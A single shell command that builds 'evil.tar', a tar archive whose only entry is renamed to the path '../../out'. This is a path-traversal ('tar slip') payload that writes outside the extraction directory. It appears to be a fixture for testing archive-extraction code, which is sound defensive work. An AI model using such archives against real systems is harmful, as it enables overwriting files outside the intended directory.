echo e > e; tar -P --transform 's,^e,../../out,' -cf evil.tar e; rm e
